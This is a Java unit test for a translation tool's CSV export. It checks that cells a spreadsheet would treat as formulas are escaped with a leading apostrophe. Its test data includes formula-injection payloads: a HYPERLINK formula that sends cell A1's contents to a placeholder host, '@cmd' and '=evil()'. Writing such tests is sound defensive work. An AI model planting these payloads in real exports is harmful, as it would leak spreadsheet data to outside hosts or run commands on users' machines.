package org.rosetta.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.rosetta.text.Lang;
import org.rosetta.text.Segment;
import org.rosetta.text.SegmentKind;

class CsvExportTest {
  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "=HYPERLINK(\"http://example.test/?\"&A1,\"Подробнее\")|'=HYPERLINK(\"http://example.test/?\"&A1,\"Подробнее\")",
        "+7 495 123 45 67|'+7 495 123 45 67",
        "-1 градус ночью|'-1 градус ночью",
        "@cmd|'@cmd",
        "Мы удовлетворены развитием отношений.|Мы удовлетворены развитием отношений.",
        "— Да, — сказал он.|— Да, — сказал он.",
      })
  void aCellThatASpreadsheetWouldRunAsAFormulaIsWrittenAsText(String translation, String written) throws Exception {
    Segment en = new Segment("en-1", Lang.EN, 0, 0, 5, 0, "Hello", 1, SegmentKind.SENTENCE);
    Segment ru = new Segment("ru-1", Lang.RU, 0, 0, translation.length(), 0, translation, 1, SegmentKind.SENTENCE);
    StringWriter out = new StringWriter();

    new CsvExport().write("statement", List.of(new ReviewedLink(Lang.RU, List.of(en), List.of(ru), 0.95, "accepted", "=evil()", null)), out);

    List<CSVRecord> rows = CSVParser.parse(out.toString(), CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()).getRecords();
    assertThat(rows).singleElement().satisfies(row -> {
      assertThat(row.get("target")).isEqualTo(written);
      assertThat(row.get("source")).isEqualTo("Hello");
      assertThat(row.get("reviewer")).isEqualTo("'=evil()");
    });
  }
}
